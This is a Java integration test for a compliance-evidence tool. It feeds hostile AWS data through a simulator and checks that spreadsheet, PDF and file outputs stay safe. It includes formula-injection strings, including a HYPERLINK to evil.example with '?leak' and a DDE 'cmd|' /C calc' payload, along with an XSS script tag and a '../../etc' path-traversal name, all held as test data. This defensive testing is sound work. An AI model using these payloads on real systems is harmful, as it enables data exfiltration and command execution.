package dev.evident.robustness;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;

import dev.evident.simulator.Faults;
import dev.evident.run.RunLayout;
import dev.evident.job.RunLauncher;
import dev.evident.job.RunLauncher.Outcome;
import dev.evident.run.ExitCode;
import dev.evident.run.Period;
import dev.evident.run.RunLayout;
import dev.evident.run.RunParameters;
import dev.evident.run.Source;
import dev.evident.simulator.Simulator;
import dev.evident.simulator.SimulatorConfig;
import dev.evident.simulator.model.Finding;
import dev.evident.support.DemoSimulator;

import org.springframework.batch.core.BatchStatus;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile data from AWS: the demo organization with names in CJK, Arabic, Hebrew and
 * emoji, 1,000-character names, names starting with {@code = + - @}, markup, ampersands
 * and quotes in finding titles, a 60 KB finding description and an account named
 * {@code ../../etc} (src/test/resources/robustness/hostile-organization.yaml). One run;
 * each test checks one output.
 */
@SpringBootTest(properties = { "spring.datasource.url=jdbc:h2:mem:robust-hostile;DB_CLOSE_DELAY=-1" })
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(value = 3, unit = TimeUnit.MINUTES)
class HostileDataIT {

	static final String LONG = "長い名前-".repeat(200);

	static final String DESCRIPTION = "A very long description <b>with markup</b> & ampersands. ".repeat(1100);

	static final String SCRIPT_TITLE = "<script>alert('pwned')</script> & \"quoted\" 'single' &amp; =1+2";

	static final Path DATA_DIR = tempDir();

	static Simulator hostile;

	@DynamicPropertySource
	static void simulator(DynamicPropertyRegistry registry) throws IOException {
		DemoSimulator.register(registry);
		Path data = DATA_DIR.resolve("hostile-organization.yaml");
		try (InputStream in = HostileDataIT.class.getResourceAsStream("/robustness/hostile-organization.yaml")) {
			String yaml = new String(in.readAllBytes(), StandardCharsets.UTF_8).replace("@@LONG@@", LONG)
				.replace("@@DESC60K@@", DESCRIPTION);
			Files.writeString(data, yaml);
		}
		hostile = Simulator.start(SimulatorConfig.defaults()
			.withFaults(new Faults())
			.withPort(0)
			.withReferenceInstant(DemoSimulator.AS_OF)
			.withDataFile(data));
		registry.add("evident.aws.endpoint", () -> hostile.endpoint().toString());
	}

	@Autowired
	RunLauncher launcher;

	@Autowired
	JdbcTemplate jdbc;

	/** {@code <tmp>/a/b/out}: anything escaping {@code out} would land in a or b. */
	Path root;

	Path out;

	Outcome outcome;

	Path pkg;

	@BeforeAll
	void run() throws Exception {
		root = Files.createTempDirectory("evident-hostile-");
		out = root.resolve("a/b/out");
		List<String> regions = hostile.organization()
			.findings()
			.stream()
			.map(Finding::region)
			.distinct()
			.sorted()
			.toList();
		outcome = launcher.launch(new RunParameters("hostile", Period.parse("2026-Q3"), DemoSimulator.AS_OF,
				Source.DEMO, out, null, null, List.of(), List.of(), regions, 4));
		pkg = outcome.layout().map(RunLayout::packageDir).orElse(null);
	}

	@AfterAll
	void stop() {
		hostile.close();
	}

	@Test
	void theJobCompletesWithOnlyTheDeniedAccountAsAGap() {
		assertThat(outcome.status()).as(String.valueOf(outcome.failure())).isEqualTo(BatchStatus.COMPLETED);
		assertThat(outcome.exitCode()).isEqualTo(ExitCode.GAPS);
		assertThat(jdbc.queryForList("SELECT account_id || ' ' || source FROM ev_gap WHERE run_id = ?", String.class,
				outcome.runId()))
			.containsExactly("777777777777 account");
		assertThat(jdbc.queryForObject("SELECT name FROM ev_account WHERE run_id = ? AND account_id = '777777777777'",
				String.class, outcome.runId()))
			.isEqualTo("../../etc");
		assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM ev_finding WHERE run_id = ?", Long.class, outcome.runId()))
			.isEqualTo(hostile.organization().findings().size());
	}

	@Test
	void theWorkbookStoresFormulaLookalikesAsQuotedTextNeverAsFormulas() throws IOException {
		List<String> triggers = new ArrayList<>();
		try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(pkg.resolve(RunLayout.WORKBOOK)))) {
			for (Sheet sheet : workbook) {
				for (Row row : sheet) {
					for (Cell cell : row) {
						assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
							.isNotEqualTo(CellType.FORMULA);
						if (cell.getCellType() == CellType.STRING) {
							String v = cell.getStringCellValue();
							if (!v.isEmpty() && "=+-@".indexOf(v.charAt(0)) >= 0) {
								assertThat(cell.getCellStyle().getQuotePrefixed())
									.as(sheet.getSheetName() + "!" + cell.getAddress() + " " + v)
									.isTrue();
								triggers.add(v);
							}
						}
					}
				}
			}
		}
		assertThat(triggers).contains("=HYPERLINK(\"http://evil.example/?leak\",\"Log Archive\")",
				"@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 תשלומים בייצור", "-2+3 <b>web</b> & \"prod\" 'web'", "=cmd",
				"+plus", "-minus", "@at", "=DenyLeave()", "=HYPERLINK(\"http://evil.example\",\"click\")");
	}

	@Test
	void thePdfRendersTheHostileTextLiterally() throws IOException {
		String text;
		try (PDDocument pdf = Loader.loadPDF(pkg.resolve(RunLayout.REPORT).toFile())) {
			assertThat(pdf.getNumberOfPages()).isPositive();
			text = new PDFTextStripper().getText(pdf);
		}
		String flat = text.replaceAll("\\s+", "");
		assertThat(flat).contains(SCRIPT_TITLE.replaceAll("\\s+", ""))
			.contains("=HYPERLINK(\"http://evil.example\",\"click\")")
			.contains("../../etc")
			.contains("-2+3<b>web</b>&\"prod\"'web'")
			.contains("開発環境")
			.contains("中文标题")
			.doesNotContain("&lt;")
			.doesNotContain("&quot;")
			.doesNotContain("&amp;amp;");
	}

	@Test
	void theLongDescriptionIsKeptWholeInTheRawEvidence() throws IOException {
		try (Stream<Path> files = Files.walk(pkg.resolve("raw"))) {
			assertThat(
					files.filter(p -> p.toString().contains("inspector2")).filter(Files::isRegularFile).anyMatch(p -> {
						try {
							return Files.readString(p).contains(DESCRIPTION.substring(0, 2000))
									&& Files.readString(p).contains(DESCRIPTION.strip());
						}
						catch (IOException ex) {
							throw new IllegalStateException(ex);
						}
					}))
				.isTrue();
		}
	}

	@Test
	void nothingIsWrittenOutsideThePackageFolderAndNoPathIsBuiltFromAName() throws IOException {
		RunLayout layout = outcome.layout().orElseThrow();
		try (Stream<Path> all = Files.walk(root)) {
			List<Path> files = all.filter(Files::isRegularFile).toList();
			assertThat(files).isNotEmpty()
				.allSatisfy(
						f -> assertThat(f.startsWith(layout.packageDir()) || f.equals(layout.bundle())).as(f.toString())
							.isTrue());
			assertThat(files).noneMatch(f -> f.toString().contains("etc") || f.toString().contains("Workloads")
					|| f.toString().contains("長い名前") || f.toString().contains("windows"));
		}
		try (Stream<Path> top = Files.list(root)) {
			assertThat(top.map(p -> p.getFileName().toString())).containsExactly("a");
		}
		try (Stream<Path> top = Files.list(out)) {
			assertThat(top.map(p -> p.getFileName().toString())).containsExactly(layout.orgId());
		}
	}

	private static Path tempDir() {
		try {
			return Files.createTempDirectory("evident-hostile-data-");
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

}
